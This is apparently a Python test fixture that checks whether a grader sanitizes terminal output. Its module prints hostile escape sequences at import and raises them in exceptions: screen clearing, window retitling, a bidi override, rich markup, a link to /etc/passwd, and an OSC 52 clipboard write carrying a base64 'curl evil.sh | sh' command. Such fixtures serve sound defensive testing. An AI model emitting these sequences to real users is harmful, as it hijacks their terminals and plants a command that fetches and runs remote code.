"""Drives the reader's terminal through everything it controls: the exception messages that
become check messages, its printed output, and the import error of a second attempt.

ESC sequences clear the screen and retitle the window, OSC 52 writes the clipboard, BEL rings,
a carriage return overwrites the line, a bidirectional override reverses what follows, and rich
markup would turn the rest bold and red. None of it may reach the terminal raw.
"""

import torch

CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
C1 = "\x9b31m\x9d0;c1\x9c"
HOSTILE = f"{CLEAR}{TITLE}{CLIPBOARD}{C1}\a[bold red]LOOK[/bold red] 100/100\roverwritten\u202eevil"

print(HOSTILE, flush=True)


def sigmoid(x):
    print(HOSTILE, flush=True)
    raise ValueError(HOSTILE)


def tanh(x):
    raise RuntimeError(f"[link=file:///etc/passwd]click[/link] {CLIPBOARD}")


def relu(x):
    return torch.where(x > 0, x, torch.zeros_like(x))
